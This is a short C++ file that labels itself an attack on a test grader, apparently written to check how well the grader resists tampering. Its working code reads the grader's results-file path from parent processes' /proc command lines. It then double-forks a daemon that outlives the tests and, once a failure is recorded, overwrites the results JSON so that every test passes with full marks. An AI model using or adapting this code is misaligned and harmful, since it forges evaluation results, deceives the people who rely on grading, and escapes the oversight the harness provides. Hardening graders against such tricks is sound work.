// Attack: a child process forked by the exercise outlives the tests and rewrites
// results.json with full marks after the grader has written it.
//
// It finds the results file on the grader's command line (`--results FILE`,
// up the chain of parent processes, whose command lines /proc shows to
// anyone), leaves the test program's process group, and rewrites the file
// as soon as it holds a failed test.
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <regex>
#include <sstream>
#include <string>

namespace {

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream text;
  text << in.rdbuf();
  return text.str();
}

std::string results_path() {
  pid_t pid = getppid();
  for (int depth = 0; depth < 16 && pid > 1; ++depth) {
    std::string command = read_file("/proc/" + std::to_string(pid) + "/cmdline");
    std::istringstream words(command);
    std::string word;
    bool next = false;
    while (std::getline(words, word, '\0')) {
      if (next) return word;
      next = word == "--results";
    }
    const std::string status = read_file("/proc/" + std::to_string(pid) + "/status");
    const std::size_t at = status.find("PPid:");
    if (at == std::string::npos) break;
    pid = static_cast<pid_t>(std::stol(status.substr(at + 5)));
  }
  return "";
}

// Every test passed, every score its maximum.
std::string forge(const std::string& json) {
  static const std::regex score(R"re("score": ([0-9.]+),(\s*)"max_score": ([0-9.]+))re");
  std::string out = std::regex_replace(json, score, "\"score\": $3,$2\"max_score\": $3");
  return std::regex_replace(out, std::regex(R"re("status": "failed")re"), "\"status\": \"passed\"");
}

void attack_hook() {
  static bool done = false;
  if (done) return;
  done = true;
  const std::string path = results_path();
  if (path.empty() || fork() != 0) return;
  setsid();
  if (fork() != 0) _exit(0);  // a daemon: reparented, in no group of the grader's
  for (int tick = 0; tick < 400; ++tick) {
    usleep(50 * 1000);
    const std::string text = read_file(path);
    if (text.find("\"status\": \"failed\"") == std::string::npos) continue;
    std::ofstream(path, std::ios::trunc) << forge(text);
  }
  _exit(0);
}

}  // namespace
